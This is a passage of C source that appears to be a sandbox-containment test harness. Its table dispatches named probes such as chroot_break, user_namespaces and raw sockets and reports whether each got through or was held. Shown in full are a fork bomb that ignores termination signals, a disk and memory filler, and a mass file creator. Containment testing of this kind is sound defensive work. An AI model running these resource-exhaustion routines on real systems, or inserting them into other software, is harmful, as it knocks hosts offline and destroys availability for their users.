		if (pid < 0)
			break;
	}
	printf("%d\n", children);
	if (children == atoi(args[0]))
		gains++;
}

// bomb forks in all its processes, as long as there is one.
static void bomb(char **args)
{
	signal(SIGTERM, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	for (;;)
		fork();
	(void)args;
}

// fill writes so many MiB to a file, or to one that only has a descriptor.
static void fill(char **args)
{
	static char block[1 << 20];
	memset(block, 'x', sizeof block);
	int fd = args[0][0] == '/' ? open(args[0], O_CREAT | O_WRONLY, 0600) : (int)syscall(SYS_memfd_create, "x", 0);
	int n = 0;
	while (n < atoi(args[1]) && write(fd, block, sizeof block) == (ssize_t)sizeof block)
		n++;
	printf("%d\n", n);
	if (n == atoi(args[1]))
		gains++;
}

static void many_files(char **args)
{
	char path[4096];
	int n = 0;
	for (; n < atoi(args[1]); n++) {
		snprintf(path, sizeof path, "%s/%d", args[0], n);
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		if (fd < 0) {
			failed("open");
			break;
		}
		close(fd);
	}
	printf("%d\n", n);
	if (n == atoi(args[1]))
		gains++;
}

static const struct {
	const char *name;
	void (*attack)(char **);
	int args;
} attacks[] = {
	{"read_file", read_file, 1}, {"read_leaked", read_leaked, 1}, {"handle", handle, 1}, {"open_handle", open_handle, 3},
	{"write_mounts", write_mounts, 1}, {"write_file", write_file, 1}, {"open_files", open_files, 1}, {"peek", peek, 2},
	{"trace", trace, 2}, {"kill", kill_them, 1}, {"signals", signals, 1}, {"kill_exactly", kill_exactly, 2},
	{"namespaces", namespaces, 0}, {"mounts", mounts, 1}, {"lift", lift, 0}, {"own_group", own_group, 1},
	{"own_limits", own_limits, 1}, {"user_namespaces", user_namespaces, 0}, {"set_ids", set_ids, 1},
	{"domain_name", domain_name, 0}, {"chroot_break", chroot_break, 1},
	{"devices", devices, 2}, {"terminal", terminal, 0}, {"inherited", inherited, 0}, {"connect", connect_to, 2},
	{"connect_unix", connect_unix, 1}, {"families", families, 1}, {"raw", raw, 0}, {"links", links, 0},
	{"leave", leave, 1}, {"found", found, 1}, {"gone", gone, 1}, {"root_rights", root_rights, 0}, {"rights", rights, 0},
	{"file_capability", file_capability, 1}, {"priorities", priorities, 0}, {"starve", starve, 1}, {"clocks", clocks, 0},
	{"host_name", host_name, 1}, {"calls", calls, 0}, {"compat", compat, 3}, {"forks", forks, 1}, {"bomb", bomb, 0},
	{"fill", fill, 2}, {"many_files", many_files, 2},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
		if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].args) {
			attacks[i].attack(argv + 2);
			fflush(stdout);
			return gains > 0 ? GOT : HELD;
		}
	return MISUSED;
}
